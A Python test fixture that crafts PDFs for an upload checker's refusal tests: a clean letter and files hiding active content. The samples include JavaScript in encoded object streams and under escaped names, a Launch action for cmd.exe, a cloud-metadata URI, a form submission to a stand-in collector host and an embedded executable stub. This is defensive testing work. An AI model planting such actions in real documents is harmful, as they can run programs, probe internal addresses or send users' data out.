"""Crafted PDFs for the upload checks: one clean letter, and one file per way of hiding active
content (each action, each place, each stream encoding). Written byte by byte, with a real
cross-reference table or stream, so a PDF reader opens them as any viewer would."""

from __future__ import annotations

import base64
import binascii
import zlib

PAGE_TEXT = "Referral letter for Rosalind Quennell"
_CONTENT = f"BT /F1 12 Tf 72 720 Td ({PAGE_TEXT}) Tj ET".encode()
_JS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def _encode(data: bytes, filter_name: str) -> bytes:
    if filter_name == "ASCIIHexDecode":
        return binascii.hexlify(data) + b">"
    if filter_name == "ASCII85Decode":
        return base64.a85encode(data) + b"~>"
    if filter_name == "FlateDecode":
        return zlib.compress(data)
    raise ValueError(filter_name)


def build_pdf(
    *,
    catalog_extra: bytes = b"",
    page_extra: bytes = b"",
    extra: dict[int, bytes] | None = None,
    packed: dict[int, bytes] | None = None,
    packed_filter: str = "FlateDecode",
) -> bytes:
    """A one-page PDF. `extra` objects are written plainly; `packed` objects go into an
    object stream encoded with `packed_filter`, found through a cross-reference stream."""
    objects: dict[int, bytes] = {
        1: b"<</Type/Catalog/Pages 2 0 R" + catalog_extra + b">>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: (
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
            b"/Resources<</Font<</F1 5 0 R>>>>" + page_extra + b">>"
        ),
        4: b"<</Length %d>>stream\n" % len(_CONTENT) + _CONTENT + b"\nendstream",
        5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    }
    objects.update(extra or {})
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    compressed: dict[int, tuple[int, int]] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    size = max([*objects, *(packed or {})]) + 1
    if packed:
        stream_number = size
        size += 1
        header = b""
        body = b""
        for index, number in enumerate(sorted(packed)):
            header += b"%d %d " % (number, len(body))
            body += packed[number] + b"\n"
            compressed[number] = (stream_number, index)
        data = _encode(header + body, packed_filter)
        offsets[stream_number] = len(out)
        out += (
            b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/%s/Length %d>>stream\n"
            % (stream_number, len(packed), len(header), packed_filter.encode(), len(data))
            + data
            + b"\nendstream\nendobj\n"
        )
    if not packed:
        xref_at = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            if number in offsets:
                out += b"%010d 00000 n \n" % offsets[number]
            else:
                out += b"0000000000 65535 f \n"
        out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, xref_at)
        return bytes(out)
    xref_number = size
    size += 1
    xref_at = len(out)
    offsets[xref_number] = xref_at
    rows = bytearray()
    for number in range(size):
        if number in offsets:
            rows += bytes([1]) + offsets[number].to_bytes(4, "big") + (0).to_bytes(2, "big")
        elif number in compressed:
            stream, index = compressed[number]
            rows += bytes([2]) + stream.to_bytes(4, "big") + index.to_bytes(2, "big")
        else:
            rows += bytes([0]) + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")
    out += (
        b"%d 0 obj\n<</Type/XRef/Size %d/Root 1 0 R/W[1 4 2]/Index[0 %d]/Length %d>>stream\n"
        % (xref_number, size, size, len(rows))
        + bytes(rows)
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def clean_pdf() -> bytes:
    return build_pdf()


def _packed_js(filter_name: str) -> bytes:
    return build_pdf(
        catalog_extra=b"/OpenAction 10 0 R", packed={10: _JS}, packed_filter=filter_name
    )


_FIELD_JS = b"<</K<</S/JavaScript/JS(event.value\\(\\))>>>>"

# name -> (the PDF, what the refusal names)
ACTIVE_PDFS: dict[str, tuple[bytes, str]] = {
    "JavaScript open action": (
        build_pdf(catalog_extra=b"/OpenAction 10 0 R", extra={10: _JS}),
        "JavaScript",
    ),
    "JavaScript in an ASCIIHex object stream": (_packed_js("ASCIIHexDecode"), "JavaScript"),
    "JavaScript in an ASCII85 object stream": (_packed_js("ASCII85Decode"), "JavaScript"),
    "JavaScript in a Flate object stream": (_packed_js("FlateDecode"), "JavaScript"),
    "JavaScript with an escaped name": (
        build_pdf(catalog_extra=b"/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"),
        "JavaScript",
    ),
    "document-level JavaScript": (
        build_pdf(catalog_extra=b"/Names<</JavaScript<</Names[(init) 10 0 R]>>>>", extra={10: _JS}),
        "JavaScript",
    ),
    "launch action": (
        build_pdf(catalog_extra=b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
        "starts a program",
    ),
    "web address opened on open": (
        build_pdf(catalog_extra=b"/OpenAction<</S/URI/URI(http://169.254.169.254/latest)>>"),
        "opens a web address",
    ),
    "form submission": (
        build_pdf(
            catalog_extra=(
                b"/OpenAction<</S/SubmitForm/F<</FS/URL/F(https://collector.example/)>>>>"
            )
        ),
        "sends form data",
    ),
    "data import": (
        build_pdf(catalog_extra=b"/OpenAction<</S/ImportData/F(values.fdf)>>"),
        "imports data",
    ),
    "embedded file": (
        build_pdf(
            catalog_extra=b"/Names<</EmbeddedFiles<</Names[(setup.exe) 10 0 R]>>>>",
            extra={
                10: b"<</Type/Filespec/F(setup.exe)/EF<</F 11 0 R>>>>",
                11: b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream",
            },
        ),
        "attached file",
    ),
    "XFA form": (
        build_pdf(
            catalog_extra=b"/AcroForm<</Fields[]/XFA 10 0 R>>",
            extra={10: b"<</Length 7>>stream\n<xdp/>\nendstream"},
        ),
        "XFA form",
    ),
    "rich media": (
        build_pdf(
            page_extra=b"/Annots[10 0 R]",
            extra={10: b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 100 100]/RichMediaContent<<>>>>"},
        ),
        "rich media",
    ),
    "form field with actions": (
        build_pdf(
            catalog_extra=b"/AcroForm<</Fields[10 0 R]>>",
            page_extra=b"/Annots[10 0 R]",
            extra={
                10: b"<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/Rect[72 600 300 620]/P 3 0 R"
                b"/AA" + _FIELD_JS + b">>"
            },
        ),
        "form field with actions",
    ),
    "page open action": (
        build_pdf(page_extra=b"/AA<</O " + _JS + b">>"),
        "JavaScript",
    ),
    "link running JavaScript": (
        build_pdf(
            page_extra=b"/Annots[10 0 R]",
            extra={10: b"<</Type/Annot/Subtype/Link/Rect[72 700 300 720]/A " + _JS + b">>"},
        ),
        "JavaScript",
    ),
}
